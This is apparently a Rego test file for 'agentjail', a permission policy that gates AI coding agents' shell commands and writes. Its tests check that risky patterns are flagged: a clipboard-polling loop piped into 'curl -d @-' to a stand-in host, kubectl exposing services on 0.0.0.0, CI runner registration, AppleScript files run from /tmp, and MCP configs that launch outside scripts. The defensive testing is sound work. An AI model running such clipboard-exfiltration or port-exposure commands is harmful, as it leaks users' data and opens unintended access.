package agentjail

t_looped(cmd) := object.union(cmd, {"repeats": "forever"})

t_loop_bash(cmds) := object.union(t_bash(cmds), {"agentjail": {"repeats": true}})

test_clipboard_loop_to_file_asked if {
	c := object.union(t_looped(t_cmd("pbpaste", [], [])), {"redirects": [{"op": ">>", "path": "/tmp/.c", "target": "/tmp/.c", "prefix": ""}]})
	t_asked("collection.clipboard_loop", t_loop_bash([c]))
}

test_clipboard_loop_piped_asked if {
	c := t_looped(t_cmd("xclip", ["-o", "-selection", "clipboard"], []))
	curl := object.union(t_looped(t_cmd("curl", ["-d", "@-", "https://x.example.io"], [])), {"pipe_from": ["xclip"]})
	t_asked("collection.clipboard_loop", t_loop_bash([c, curl]))
}

test_clipboard_once_allowed if {
	c := object.union(t_cmd("pbpaste", [], []), {"redirects": [{"op": ">", "path": "/tmp/c", "target": "/tmp/c", "prefix": ""}]})
	not t_fired("collection.clipboard_loop", t_bash([c]))
}

test_clipboard_write_loop_allowed if {
	c := object.union(t_looped(t_cmd("xclip", ["-i", "-selection", "clipboard"], [])), {"redirects": [{"op": ">", "path": "/tmp/c", "target": "/tmp/c", "prefix": ""}]})
	not t_fired("collection.clipboard_loop", t_loop_bash([c]))
}

test_kubectl_proxy_all_interfaces_asked if t_asked("network.expose_port", t_bash([t_cmd("kubectl", ["proxy", "--address", "0.0.0.0"], [])]))

test_kubectl_port_forward_joined_asked if t_asked("network.expose_port", t_bash([t_cmd("kubectl", ["port-forward", "--address=0.0.0.0", "svc/db", "5432"], [])]))

test_kubectl_port_forward_local_allowed if not t_fired("network.expose_port", t_bash([t_cmd("kubectl", ["port-forward", "--address", "127.0.0.1", "svc/db", "5432"], [])]))

test_runner_register_asked if t_asked("ci.runner_register", t_bash([t_cmd("config.sh", ["--url", "https://github.com/a/b", "--token", "T"], [])]))

test_gitlab_runner_register_asked if t_asked("ci.runner_register", t_bash([t_cmd("gitlab-runner", ["register"], [])]))

test_gitlab_runner_status_allowed if not t_fired("ci.runner_register", t_bash([t_cmd("gitlab-runner", ["status"], [])]))

t_osa(args, paths) := t_bash([t_cmd("osascript", args, paths)])

test_applescript_compiled_asked if t_asked("macos.applescript_file", t_osa(["/home/dev/project/run.scpt"], ["/home/dev/project/run.scpt"]))

test_applescript_temp_asked if t_asked("macos.applescript_file", t_osa(["/tmp/a.applescript"], ["/tmp/a.applescript"]))

test_applescript_project_text_allowed if not t_fired("macos.applescript_file", t_osa(["scripts/n.applescript"], ["/home/dev/project/scripts/n.applescript"]))

test_applescript_inline_allowed if not t_fired("macos.applescript_file", t_osa(["-e", "beep"], []))

t_mcp_file(commands, keys) := object.union(t_tool("Write", {"file_path": "/home/dev/project/.mcp.json", "content": "{}"}, ["/home/dev/project/.mcp.json"]), {"agentjail": {"written": [{
	"path": "/home/dev/project/.mcp.json", "kind": "mcp_config", "commands": commands, "text": [], "auto": false, "new": true,
	"added": [{"label": "mcp_server", "key": k, "value": ""} | some k in keys], "problem": "", "contained": false, "rules": [], "truncated": false,
}]}})

test_project_script_server_allowed if not t_fired("written.mcp_server", t_mcp_file(["node tools/db.js"], ["mcpServers/db"]))

test_outside_script_server_asked if t_asked("written.mcp_server", t_mcp_file(["node /tmp/x/db.js"], ["mcpServers/db"]))

test_url_server_beside_script_asked if t_asked("written.mcp_server", t_mcp_file(["node tools/db.js"], ["mcpServers/db", "mcpServers/remote"]))
